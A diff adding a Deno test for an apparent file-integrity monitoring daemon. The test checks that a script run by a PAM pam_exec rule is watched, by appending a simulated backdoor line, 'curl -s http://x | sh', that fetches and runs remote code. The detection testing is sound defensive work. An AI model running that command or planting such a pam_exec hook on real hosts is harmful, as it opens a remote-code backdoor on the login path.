@@ -96,6 +96,37 @@ Deno.test("a file a watched PAM service includes is watched too: a backdoor ther
   }
 });
 
+Deno.test("the program a PAM rule runs (pam_exec) is watched with the service: a line added to it is seen", async () => {
+  await using dir = await tempDir();
+  const x = dir.path;
+  await Deno.mkdir(`${x}/pam.d`);
+  await Deno.writeTextFile(`${x}/hook.sh`, "#!/bin/sh\nlogger login\n");
+  await Deno.writeTextFile(
+    `${x}/pam.d/sshd`,
+    `session optional pam_exec.so quiet ${x}/hook.sh\nauth required pam_unix.so\n`,
+  );
+  const config = await daemonConfig(x, [`- path: ${x}/pam.d`]);
+  const d = new Daemon(config);
+  try {
+    await d.started();
+    assert(
+      await waitFor(() => d.stderr.includes(`watching ${x}/hook.sh as generic`), 5_000),
+      d.stderr,
+    );
+    await Deno.writeTextFile(`${x}/hook.sh`, "curl -s http://x | sh\n", { append: true });
+    const changed = await d.expect(
+      (e) => e.file?.path === `${x}/hook.sh` && e.event.action === "modified",
+      "the hook's change",
+    );
+    assertEquals(
+      (changed.bpfink?.diff as { added?: string[] } | undefined)?.added,
+      ["curl -s http://x | sh"],
+    );
+  } finally {
+    await d.stop();
+  }
+});
+
 Deno.test("a rule libpam reads past 1023 bytes of a line is seen, a hash-like word before it or not", async () => {
   await using dir = await tempDir();
   const x = dir.path;
